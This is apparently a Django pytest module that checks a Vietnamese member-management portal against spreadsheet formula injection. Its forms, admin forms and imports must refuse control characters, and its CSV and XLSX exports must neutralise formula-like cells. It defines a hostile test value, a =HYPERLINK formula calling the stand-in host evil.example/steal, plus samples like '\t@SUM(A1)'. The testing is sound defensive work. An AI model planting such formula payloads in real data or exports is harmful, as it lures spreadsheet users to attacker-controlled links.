"""Text that cannot become a formula (issue 17, item 3): control characters are refused by
every form and every import, and every export writes text through one neutralising function
(config.exports.safe_cell), control characters stripped first."""

import csv
import importlib
import io

import openpyxl
import pytest
from django import forms
from django.conf import settings
from django.contrib import admin
from django.urls import reverse

from config.exports import FORMULA_CHARACTERS, SKIPPED
from config.forms import PrintableTextMixin
from members.models import Member
from organizations.models import PartyOrganization
from tests.helpers import ledger_counts
from tests.imports import messages, run, snapshot
from tests.imports.make_corpus import MEMBER, MEMBERS, utf8

pytestmark = pytest.mark.django_db
PAYLOAD = '\x01=HYPERLINK("http://evil.example/steal","Bấm vào đây")'
VI = "Không được chứa ký tự điều khiển (ký tự không in được)."
EN = "Must not contain control characters (non-printing characters)."
APPS = ("config", "members", "organizations", "unions", "reports")


def admission(**overrides):
    return {
        "organization": PartyOrganization.objects.get(code="HN-001").pk,
        "date": "15/03/2024",
        "full_name": "Trần Thị Mới",
        "gender": "female",
        "birth_date": "02/01/1998",
        "ethnicity": "Kinh",
        "national_id": "001198000777",
        **overrides,
    }


# Forms ----------------------------------------------------------------------------------------


def test_the_member_form_refuses_the_payload_keeps_it_and_writes_nothing(login):
    client = login("canbo")
    before = ledger_counts()
    response = client.post(reverse("members:member_admit"), admission(full_name=PAYLOAD))
    assert response.status_code == 200
    assert response.context["form"].errors["full_name"] == [VI]
    assert "=HYPERLINK(&quot;http://evil.example/steal&quot;" in response.text  # kept
    assert ledger_counts() == before
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.post(reverse("members:member_admit"), admission(full_name=PAYLOAD))
    assert response.context["form"].errors["full_name"] == [EN]
    assert ledger_counts() == before


def test_a_note_may_hold_line_breaks_but_no_other_control_character(vietnamese):
    from members.forms import RemoveForm

    def errors(note):
        form = RemoveForm({"kind": "died", "date": "01/01/2024", "note": note}, user=None)
        form.is_valid()
        return form.errors.get("note")

    assert errors("Dòng một\r\nDòng hai\tcột") is None
    assert errors("Dòng một\x0b=1+1") == [VI]
    # Single-line fields refuse tab and line breaks inside the text.
    assert RemoveForm({"decision_number": "12\t=1"}, user=None).errors["decision_number"] == [VI]


def _portal_form_classes():
    for app in APPS:
        for name in ("forms", "views", "admin", "import_forms", "import_views"):
            try:
                importlib.import_module(f"{app}.{name}")
            except ModuleNotFoundError:
                continue
    found, todo = set(), [forms.BaseForm]
    while todo:
        cls = todo.pop()
        todo.extend(cls.__subclasses__())
        model_form = issubclass(cls, forms.ModelForm)
        if cls.__module__.split(".")[0] in APPS and not (model_form and cls._meta.model is None):
            found.add(cls)
    return sorted(found, key=lambda cls: f"{cls.__module__}.{cls.__qualname__}")


def _build(cls, data, user):
    for kwargs in ({"user": user}, {"device": None}, {}):
        try:
            return cls(data, **kwargs)
        except TypeError:
            continue
    raise AssertionError(f"cannot build {cls}")


def _refuses_control_characters(form) -> list[str]:
    """The text fields of `form` that accepted "\\x01x"."""
    text_fields = [
        name
        for name, field in form.fields.items()
        if isinstance(field, forms.CharField) and not isinstance(field, forms.JSONField)
    ]
    form.data = {name: "\x01x" for name in text_fields}
    form.is_bound, form._errors = True, None
    accepted = []
    for name in text_fields:
        codes = [error.code for error in form.errors.as_data().get(name, [])]
        if "control_characters" not in codes:
            accepted.append(name)
    return accepted


def test_every_form_of_the_portal_refuses_control_characters_in_every_text_field(user):
    classes = _portal_form_classes()
    assert len(classes) > 20  # the walk found the forms (members, organizations, ...)
    checked = 0
    for cls in classes:
        assert issubclass(cls, PrintableTextMixin), cls
        form = _build(cls, {}, user("canbo"))
        assert _refuses_control_characters(form) == [], cls
        checked += any(isinstance(f, forms.CharField) for f in form.fields.values())
    assert checked > 10


def test_every_admin_change_form_refuses_control_characters(rf, user):
    request = rf.get("/admin/")
    request.user = user("admin")
    for model, model_admin in admin.site._registry.items():
        form_class = model_admin.get_form(request)
        assert issubclass(form_class, PrintableTextMixin), model
        assert _refuses_control_characters(form_class()) == [], model


# Imports --------------------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["full_name", "gender", "ethnicity"])  # text, coded values
def test_an_import_refuses_the_payload_at_its_row_and_column_and_writes_nothing(
    column, user, english
):
    before = snapshot()
    head, row = [*MEMBERS, "ethnicity"], [*MEMBER, "Kinh"]
    row[head.index(column)] = PAYLOAD
    summary = run("members", user("canbo"), utf8([head, row]))
    assert not summary.committed
    assert summary.messages == [(2, column, EN)]
    assert snapshot() == before


def test_an_import_message_about_control_characters_speaks_vietnamese(user, vietnamese):
    summary = run("members", user("canbo"), utf8([MEMBERS, [PAYLOAD, *MEMBER[1:]]]))
    assert messages(summary, 2) == [VI]


# Exports --------------------------------------------------------------------------------------


def _assert_csv_safe(text: str, payload_found: bool = True):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert cell.lstrip(SKIPPED)[:1] not in FORMULA_CHARACTERS, cell
        assert "\x01" not in cell
    if payload_found:
        assert PAYLOAD[1:] in {cell.removeprefix("'") for cell in cells}


def _assert_xlsx_safe(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.value.lstrip(SKIPPED)[:1] not in FORMULA_CHARACTERS
                    values.append(cell.value)
    assert "'" + PAYLOAD[1:] in values


@pytest.fixture
def poisoned():
    """A Hanoi member and organization holding the payload, written past the forms (as a
    record from before the forms refused it)."""
    member = Member.objects.filter(organization__code="HN-001").order_by("pk").first()
    Member.objects.filter(pk=member.pk).update(full_name=PAYLOAD, education="\t@SUM(A1)")
    PartyOrganization.objects.filter(code="HN-QM").update(name=PAYLOAD)
    return member


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_member_list_export_is_never_a_formula(login, poisoned, kind):
    response = login("canbo").get(reverse("members:member_list"), {"_export": kind})
    assert response.status_code == 200
    if kind == "csv":
        _assert_csv_safe(response.content.decode("utf-8"))
    else:
        _assert_xlsx_safe(response.content)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_import_format_export_is_never_a_formula(login, poisoned, kind):
    url = reverse("reports:import_export", args=["members"])
    response = login("canbo").get(url, {"type": kind})
    content = b"".join(response.streaming_content)
    if kind == "csv":
        _assert_csv_safe(content.decode("utf-8"))
    else:
        _assert_xlsx_safe(content)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_report_export_is_never_a_formula(login, poisoned, kind):
    query = {"committee": "HN-KCNCX", "as_of": "31/05/2022", "table": "comparison"}
    response = login("lanhdao").get(reverse("reports:composition"), {**query, "_export": kind})
    if kind == "csv":
        _assert_csv_safe(response.content.decode("utf-8"))
    else:
        _assert_xlsx_safe(response.content)


def test_the_import_format_export_comes_back_unchanged(login, poisoned, user, tmp_path):
    """The round trip holds for formula-like text that has no control character."""
    Member.objects.filter(pk=poisoned.pk).update(full_name="=1+1 Nguyễn", education="'-12")
    url = reverse("reports:import_export", args=["members"])
    content = b"".join(login("canbo").get(url, {"type": "xlsx"}).streaming_content)
    summary = run("members", user("canbo"), content, commit=False)
    assert summary.ok, summary.messages
    assert (summary.new, summary.changed) == (0, 0)
